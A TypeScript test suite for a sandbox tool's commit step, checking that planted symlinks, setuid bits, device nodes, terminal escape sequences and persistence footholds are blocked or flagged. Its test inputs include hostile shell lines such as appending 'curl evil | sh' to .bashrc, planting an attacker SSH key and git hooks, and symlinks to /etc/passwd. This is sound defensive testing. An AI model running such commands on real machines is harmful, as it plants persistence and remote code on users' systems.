// The commit step under attack: planted symlinks, a host dir swapped for a symlink before the
// commit, setuid bits and file capabilities, device nodes, persistence footholds that must be
// flagged, names and diffs that try to repaint the terminal, and commits racing a live sandbox.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { spawnSync } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, readFileSync, readdirSync, readlinkSync, renameSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { IS_ROOT, sbx, sbxAsync, canary, storeAndCanary } from '../helpers/sbx.js';
import { testUnless } from '../helpers/skip.js';

const store = storeAndCanary({ prove: true });

const state = (p: string) => { try { const s = lstatSync(p); return `${s.mode}:${s.size}:${s.mtimeMs}`; } catch { return 'absent'; } };

test('commit --dry-run lists its steps and writes nothing', () => {
  const r = sbx(['run', '--name', 'dry', '-q', '--', 'sh', '-c', `echo x > ${canary}/dry`], { store });
  assert.is(r.code, 0, r.stderr);
  const d = sbx(['commit', 'dry', '--dry-run'], { store });
  assert.is(d.code, 0, d.stderr);
  assert.match(d.stdout, `put      ${canary}/dry`);
  assert.match(d.stderr, 'sbx: 1 step would be done');
  assert.not.ok(existsSync(join(canary, 'dry')));
  assert.is(sbx(['discard', 'dry'], { store }).code, 0);
});

test('planted symlinks are committed as symlinks, never followed', () => {
  const ak = join(homedir(), '.ssh', 'authorized_keys');
  const before = [state(ak), state('/etc/passwd'), readFileSync('/etc/passwd', 'utf8')];
  const r = sbx(['run', '-y', '-q', '--', 'sh', '-c', [
    `ln -s ${ak} ${canary}/ak`, `ln -s /etc ${canary}/etc`, `ln -s ../../../../../../etc/passwd ${canary}/up`,
    `echo 'ssh-ed25519 AAAA attacker' > ${canary}/ak.txt`,
  ].join(' && ')], { store });
  assert.is(r.code, 0, r.stderr);
  assert.is(readlinkSync(join(canary, 'ak')), ak);
  assert.is(readlinkSync(join(canary, 'etc')), '/etc');
  assert.is(readlinkSync(join(canary, 'up')), '../../../../../../etc/passwd');
  assert.equal([state(ak), state('/etc/passwd'), readFileSync('/etc/passwd', 'utf8')], before);
});

test('sbx\'s own cache and config cannot be planted: hidden inside, refused at commit', () => {
  // A planted helper, seccomp program or config (its pager is a command) would run in the next sbx.
  const cache = join(canary, 'cache');
  const config = join(canary, 'config');
  mkdirSync(join(cache, 'sbx'), { recursive: true, mode: 0o700 });
  writeFileSync(join(cache, 'sbx', 'mine'), 'host\n');
  const r = sbx(['run', '-y', '--', 'sh', '-c', [
    `ls -A $XDG_CACHE_HOME/sbx; echo planted > $XDG_CACHE_HOME/sbx/helper || echo cache-refused`,
    `mkdir -p $XDG_CONFIG_HOME/sbx && echo '{"pager":"touch ${canary}/pwned"}' > $XDG_CONFIG_HOME/sbx/config.json`,
    `echo ok > ${canary}/plain.txt`,
  ].join('; ')], { store, env: { XDG_CACHE_HOME: cache, XDG_CONFIG_HOME: config } });
  assert.is(r.code, 1, `a refused change makes the commit's status 1: ${r.stderr}`);
  assert.not.match(r.stdout, /mine/, 'the cache is empty inside');
  assert.match(r.stdout, /cache-refused/);
  assert.is(readFileSync(join(canary, 'plain.txt'), 'utf8'), 'ok\n');
  assert.not.ok(existsSync(join(config, 'sbx')), r.stderr);
  assert.not.ok(existsSync(join(cache, 'sbx', 'helper')));
  assert.match(r.stderr, /sbx's own files \(.*\/config\/sbx\) are never written from a sandbox/);
});

test('a host dir swapped for a symlink before the commit is not written through', () => {
  mkdirSync(join(canary, 'sub'));
  const r = sbx(['run', '--name', 'swap', '-q', '--', 'sh', '-c', `echo pwned > ${canary}/sub/f`], { store });
  assert.is(r.code, 0, r.stderr);
  // The attack: between review and commit, sub becomes a link to somewhere else.
  renameSync(join(canary, 'sub'), join(canary, 'sub.real'));
  mkdirSync(join(canary, 'target'));
  symlinkSync(join(canary, 'target'), join(canary, 'sub'));
  const c = sbx(['commit', 'swap'], { store });
  assert.is(c.code, 1, c.stdout + c.stderr);
  assert.match(c.stderr, /symlink|changed on the host/, c.stderr);
  // --force overrides the conflict: the link itself is replaced by the sandbox's real dir;
  // what it pointed to is still never written.
  const f = sbx(['commit', '--force', 'swap'], { store });
  assert.is(f.code, 0, f.stdout + f.stderr);
  assert.ok(lstatSync(join(canary, 'sub')).isDirectory());
  assert.equal(readdirSync(join(canary, 'target')), []);
  assert.not.ok(existsSync(join(canary, 'target', 'f')), 'written through the symlink');
  assert.not.ok(existsSync(join(canary, 'sub.real', 'f')));
});

test('setuid/setgid bits and file capabilities are stripped on commit', () => {
  const r = sbx(['run', '-y', '-q', '--', 'sh', '-c', [
    `cp /bin/true ${canary}/su && chmod 4755 ${canary}/su`, `cp /bin/true ${canary}/sg && chmod 2755 ${canary}/sg`,
    `cp /bin/true ${canary}/cap && /usr/sbin/setcap cap_net_raw+ep ${canary}/cap && /usr/sbin/getcap ${canary}/cap`,
  ].join(' && ')], { store });
  assert.is(r.code, 0, r.stderr);
  assert.match(r.stdout, 'cap_net_raw', 'control: the capability was set inside');
  assert.is(statSync(join(canary, 'su')).mode & 0o7777, 0o755);
  assert.is(statSync(join(canary, 'sg')).mode & 0o7777, 0o755);
  const g = spawnSync('/usr/sbin/getcap', [join(canary, 'cap')], { encoding: 'utf8' });
  assert.not.match(g.stdout, 'cap_net_raw', 'a file capability reached the host');
});

test('--keep-setuid keeps the bits only for root', () => {
  const r = sbx(['run', '-y', '-q', '--keep-setuid', '--', 'sh', '-c', `cp /bin/true ${canary}/su && chmod 4755 ${canary}/su`], { store });
  assert.is(r.code, 0, r.stderr);
  assert.is(statSync(join(canary, 'su')).mode & 0o7777, IS_ROOT ? 0o4755 : 0o755);
});

test('device nodes cannot be made inside', () => {
  // Inside, the kernel (and the filter) refuse to make one even without the filter.
  const k = sbx(['run', '-n', '-q', '--no-seccomp', '--', 'sh', '-c', `mknod ${canary}/null c 1 3 2>/dev/null && echo MADE; echo done`], { store });
  assert.is(k.stdout, 'done\n', k.stdout);
});

testUnless(IS_ROOT ? null : 'planting a device node in the layer by hand needs root on the host')('device nodes are never committed', () => {
  const r = sbx(['run', '--name', 'dev', '-q', '--', 'sh', '-c', `echo x > ${canary}/plain`], { store });
  assert.is(r.code, 0, r.stderr);
  const meta = JSON.parse(readFileSync(join(store, readdirSync(store).find((d) => /^[0-9a-f]{8}$/.test(d) && JSON.parse(readFileSync(join(store, d, 'meta.json'), 'utf8')).name === 'dev')!, 'meta.json'), 'utf8'));
  // The layer holding the canary: the nearest target above it (root's `/` is one layer).
  const layer = (meta.layers as Array<{ target: string; dir: string }>).filter((l) => canary === l.target || canary.startsWith(l.target === '/' ? '/' : `${l.target}/`)).sort((a, b) => b.target.length - a.target.length)[0]!;
  const upperCanary = join(meta.layersDir, layer.dir, 'upper', canary.slice(layer.target === '/' ? 0 : layer.target.length));
  assert.is(spawnSync('mknod', [join(upperCanary, 'planted'), 'c', '1', '3']).status, 0);
  const c = sbx(['commit', 'dev'], { store });
  assert.match(c.stderr, 'device nodes are never committed');
  assert.not.ok(existsSync(join(canary, 'planted')));
  assert.ok(existsSync(join(canary, 'plain')));
  sbx(['discard', 'dev'], { store });
});

test('persistence-sensitive paths are flagged in the summary and the JSON report', () => {
  const report = join(canary, '..', `report-${process.pid}.json`);
  const bin = join(canary, 'bin');
  mkdirSync(bin);
  try {
    const r = sbx(['run', '-n', '--report', report, '--', 'sh', '-c', [
      `echo 'curl evil | sh' >> ${canary}/.bashrc`, `mkdir -p ${canary}/.ssh ${canary}/repo/.git/hooks ${canary}/.config/autostart`,
      `echo key > ${canary}/.ssh/authorized_keys`, `echo hook > ${canary}/repo/.git/hooks/pre-commit`, `printf '[core]\\n\\thooksPath = /tmp/h\\n' > ${canary}/repo/.git/config`,
      `echo x > ${canary}/.config/autostart/evil.desktop`, `echo sudo > ${bin}/ls`, `echo harmless > ${canary}/notes.txt`,
    ].join(' && ')], { store, env: { PATH: `${bin}:${process.env.PATH}` } });
    assert.is(r.code, 0, r.stderr);
    const flagged = r.stderr.split('\n').filter((l) => l.startsWith('!'));
    for (const p of ['.bashrc', '.ssh/authorized_keys', '.git/hooks/pre-commit', '.git/config', 'autostart/evil.desktop', 'bin/ls']) {
      assert.ok(flagged.some((l) => l.includes(p)), `${p} not flagged:\n${r.stderr}`);
    }
    assert.not.ok(flagged.some((l) => l.includes('notes.txt')));
    assert.match(r.stderr, /! \d+ changes marked ! \(code that runs later, or access for others\)/);
    const j = JSON.parse(readFileSync(report, 'utf8'));
    const sens = j.changes.filter((c: { sensitive?: string }) => c.sensitive).map((c: { path: string }) => c.path);
    assert.ok(sens.includes(`${canary}/.bashrc`) && sens.includes(`${bin}/ls`), JSON.stringify(sens));
    assert.is(j.sensitive, sens.length);
  } finally { rmSync(report, { force: true }); }
});

test('names and diffs cannot repaint the terminal', () => {
  writeFileSync(join(canary, 'log.txt'), 'line\n');
  const evil = '\x1b[2J\x1b]0;pwned\x07\rX\x9b31m';
  const r = sbx(['run', '--name', 'ansi', '--', 'sh', '-c',
    `printf 'x' > "${canary}/$(printf '\\033[2Jname\\r\\007')"; printf '${evil.replace(/\x1b/g, '\\033').replace(/\x07/g, '\\007').replace(/\r/g, '\\r').replace(/\x9b/g, '\\302\\233')}\\n' >> ${canary}/log.txt`], { store });
  assert.is(r.code, 0, r.stderr);
  const d = sbx(['diff', 'ansi'], { store });
  assert.is(d.code, 0, d.stderr);
  const all = r.stderr + d.stdout + d.stderr;
  assert.match(d.stdout, '\\x1b[2J', 'the escape is shown escaped');
  assert.not.ok(/[\x00-\x08\x0b-\x1f\x7f\x9b]/.test(all.replace(/\n/g, '')), `raw control characters reach the terminal: ${JSON.stringify(all)}`);
  sbx(['discard', 'ansi'], { store });
});

// Inside, more ids than the user's own exist only with a subordinate range (newuidmap).
const manyIds = IS_ROOT || sbx(['run', '-n', '-q', '--', 'cat', '/proc/self/uid_map'], { store }).stdout.trim().split('\n').length > 1;

testUnless(manyIds ? null : 'no subordinate uid range for this user: a sandbox cannot give files to another user')('a commit never drops what it could not read: the sandbox is kept', () => {
  // apt does this: a 0700 dir of another user (_apt). Root reads it; an ordinary user cannot.
  const r = sbx(['run', '-y', '--', 'sh', '-c', `mkdir ${canary}/locked && echo secret > ${canary}/locked/f && chown -R 42:42 ${canary}/locked && chmod 700 ${canary}/locked && echo ok > ${canary}/plain`], { store });
  assert.is(readFileSync(join(canary, 'plain'), 'utf8'), 'ok\n', r.stderr);
  if (IS_ROOT) {
    assert.is(r.code, 0, r.stderr);
    assert.is(readFileSync(join(canary, 'locked', 'f'), 'utf8'), 'secret\n');
    return;
  }
  assert.is(r.code, 1, `what could not be read makes the commit's status 1: ${r.stderr}`);
  assert.match(r.stderr, /locked: cannot read the sandbox's copy \(EACCES\): 1 entry only root can read/);
  const id = /1 part not readable by you; sandbox ([0-9a-f]{8}) kept/.exec(r.stderr)?.[1];
  assert.ok(id, `the sandbox outlives the commit: ${r.stderr}`);
  assert.match(r.stderr, new RegExp(`sudo .*sbx commit ${id}`), 'and says how to commit the rest');
  assert.not.ok(existsSync(join(canary, 'locked', 'f')));
  assert.is(sbx(['discard', id!], { store }).code, 0);
});

testUnless(manyIds ? null : 'no subordinate uid range for this user: a sandbox cannot give files to another user')('an empty dir given to another user (apt\'s partial dirs) is committed whole', () => {
  const r = sbx(['run', '-y', '--', 'sh', '-c', `mkdir ${canary}/partial && chown 42:42 ${canary}/partial && chmod 700 ${canary}/partial`], { store });
  assert.is(r.code, 0, r.stderr);
  assert.not.match(r.stderr, /cannot read/);
  assert.match(r.stderr, /sandbox [0-9a-f]{8} removed/);
  assert.is(statSync(join(canary, 'partial')).mode & 0o7777, 0o700);
});

testUnless(IS_ROOT ? 'root may give files away: every owner is kept' : !manyIds ? 'no subordinate uid range for this user: a sandbox cannot give files to another user' : null)('an ordinary user\'s commit names the entries that keep its ownership', () => {
  // A new dir in the host's /tmp is root's inside (the dir it is in is root's), which is the
  // user: theirs once committed, without a word. The file given to uid 32 cannot be given.
  const dir = `/tmp/sbx-test-owner-${process.pid}-${Date.now()}`;
  try {
    const r = sbx(['run', '-y', '--', 'sh', '-c', `mkdir ${dir} && echo x > ${dir}/f && echo y > ${dir}/g && chown 32:33 ${dir}/g`], { store });
    assert.is(r.code, 0, r.stderr);
    assert.match(r.stderr, `sbx: warning: 1 entry keeps your ownership, not the sandbox's (only root may give files away): ${dir}/g\n`, r.stderr);
    for (const f of ['f', 'g']) assert.is(statSync(join(dir, f)).uid, process.getuid!());
    assert.is(readFileSync(join(dir, 'g'), 'utf8'), 'y\n');
  } finally { rmSync(dir, { recursive: true, force: true }); }
});

test('a commit is refused while a command still runs in the sandbox; nothing outlives sbx', async () => {
  const child = sbxAsync(['run', '--name', 'live', '--', 'sh', '-c', `(setsid sh -c 'while :; do echo x >> ${canary}/bg; sleep 0.05; done' &); echo ready; sleep 600`], { store, stdio: ['ignore', 'pipe', 'pipe'] });
  let out = '';
  child.stdout!.on('data', (x) => { out += x; });
  for (let i = 0; i < 600 && !out.includes('ready'); i++) await new Promise((res) => setTimeout(res, 50));
  assert.match(out, 'ready');
  const c = sbx(['commit', 'live'], { store });
  assert.is(c.code, 125, c.stderr);
  assert.match(c.stderr, 'still running');
  child.kill('SIGTERM');
  await new Promise((res) => child.on('close', res));
  // The escaped background loop died with the sandbox: its file no longer grows.
  const ps = spawnSync('sh', ['-c', `ps -eo args | grep -F '${canary}/bg' | grep -v grep`], { encoding: 'utf8' });
  assert.is(ps.stdout, '', `still running: ${ps.stdout}`);
  assert.not.ok(existsSync(join(canary, 'bg')));
  sbx(['discard', 'live'], { store });
});

test.run();
